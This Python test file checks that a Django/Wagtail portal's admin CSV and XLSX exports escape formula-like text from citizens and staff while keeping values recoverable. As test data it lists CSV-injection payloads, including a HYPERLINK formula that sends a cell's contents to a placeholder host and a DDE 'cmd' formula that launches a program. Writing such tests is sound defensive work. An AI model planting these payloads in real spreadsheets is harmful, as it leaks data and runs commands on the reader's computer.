"""The admin's CSV exports: text a citizen or a colleague wrote never opens as a formula in a
spreadsheet, and a program reading the file gets every value back."""

import csv
import io
from types import SimpleNamespace

from django.urls import URLPattern, URLResolver, get_resolver, reverse

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import openpyxl
import pytest

from portal.exports import PortalSpreadsheetExport, neutral_cell, original_cell
from reporting.factories import ClueFactory
from reporting.lifecycle import ledger
from reporting.models import LedgerEntry

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x.example/?d="&A1,"open")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
# Values that look like the escape already: they must come back as they were, too.
LOOKALIKES = ["'=1+1", "''@SUM(1)", "'", "'plain", "it's =1", "a=b", "", "举报 -2"]


@pytest.fixture
def admin_client(admin_client, superuser):
    """Headings in English, to find the columns by name."""
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(superuser)
    profile.preferred_language = "en"
    profile.save()
    return admin_client


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body[1:])))


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("value", FORMULAS + LOOKALIKES)
def test_every_text_comes_back_and_none_starts_a_formula(value):
    cell = neutral_cell(value)
    assert original_cell(cell) == value
    assert not cell.startswith(tuple("=+-@\t\r"))
    if value in FORMULAS:
        assert cell == "'" + value


def test_numbers_and_dates_are_left_as_they_are():
    import datetime
    from decimal import Decimal

    for value in (-5, -0.5, Decimal("-12.30"), 0, None, datetime.date(2026, 1, 2)):
        assert neutral_cell(value) is value


def test_the_clue_export_neutralises_an_entry_code_stored_before_it_was_checked(admin_client):
    """Clues sent before the report form checked its poster code may hold anything there."""
    clues = [ClueFactory(entry_code=value[:20]) for value in FORMULAS] + [
        ClueFactory(entry_code="TSMKT2")
    ]
    rows = read_csv(admin_client.get(reverse("clues:index") + "?export=csv"))
    numbers, codes = column(rows, "Tracking number"), column(rows, "Entry point code")
    cells = dict(zip(numbers, codes, strict=True))
    assert len(cells) == len(clues)
    for clue in clues[:-1]:
        assert cells[clue.tracking_number].startswith("'")
        assert original_cell(cells[clue.tracking_number]) == clue.entry_code
    assert cells[clues[-1].tracking_number] == "TSMKT2"


def test_the_ledger_export_neutralises_notes_and_keeps_them_exact_in_xlsx(admin_client):
    clue = ClueFactory()
    notes = FORMULAS + LOOKALIKES
    for note in notes:
        ledger.record(clue, LedgerEntry.Action.PROGRESS, note=note)
    url = reverse("ledger:index") + "?action=progress"

    rows = read_csv(admin_client.get(url + "&export=csv"))
    cells = column(rows, "Note")
    assert len(cells) == len(notes)
    escaped = ["''=1+1", "'''@SUM(1)", "'", "'plain", "it's =1", "a=b", "", "举报 -2"]
    assert sorted(cells) == sorted(["'" + note for note in FORMULAS] + escaped)
    assert sorted(original_cell(cell) for cell in cells) == sorted(notes)

    # XLSX keeps the text itself: Wagtail stores a formula-like cell as a string (and XML
    # reads a carriage return as a line feed).
    response = admin_client.get(url + "&export=xlsx")
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    found = list(sheet.iter_rows(values_only=True))
    index = found[0].index("Note")
    expected = sorted(note.replace("\r", "\n") for note in notes)
    assert sorted((row[index] or "") for row in found[1:]) == expected


def test_numbers_in_a_csv_stay_numbers():
    """Through Wagtail's own CSV writing: a negative number is written as it is, text that
    looks like one is escaped."""

    class Export(PortalSpreadsheetExport, SpreadsheetExportMixin):
        list_export = ["amount", "note"]

    rows = [SimpleNamespace(amount=-5, note="-5"), SimpleNamespace(amount=3.5, note="=1")]
    body = b"".join(Export().stream_csv(rows)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body))) == [
        ["amount", "note"],
        ["-5", "'-5"],
        ["3.5", "'=1"],
    ]


def _admin_views(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _admin_views(pattern)
        elif isinstance(pattern, URLPattern):
            view = getattr(pattern.callback, "view_class", None)
            if view is not None:
                # A viewset hands its list_export to the view when it makes it.
                kwargs = getattr(pattern.callback, "view_initkwargs", {})
                yield view, kwargs.get("list_export", getattr(view, "list_export", None))


def test_every_export_of_the_portal_writes_neutral_cells():
    """A listing of the portal's own that offers a download goes through the one place that
    neutralises cells. Wagtail's own reports (site history, page reports) are left to
    Wagtail, which holds that a CSV is data and its reader decides (docs/review.md)."""
    exporting = {
        view
        for view, list_export in _admin_views()
        if issubclass(view, SpreadsheetExportMixin)
        and list_export
        and not view.__module__.startswith("wagtail.")
    }
    assert {view.__name__ for view in exporting} >= {"ClueIndexView", "LedgerIndexView"}
    assert all(issubclass(view, PortalSpreadsheetExport) for view in exporting), exporting
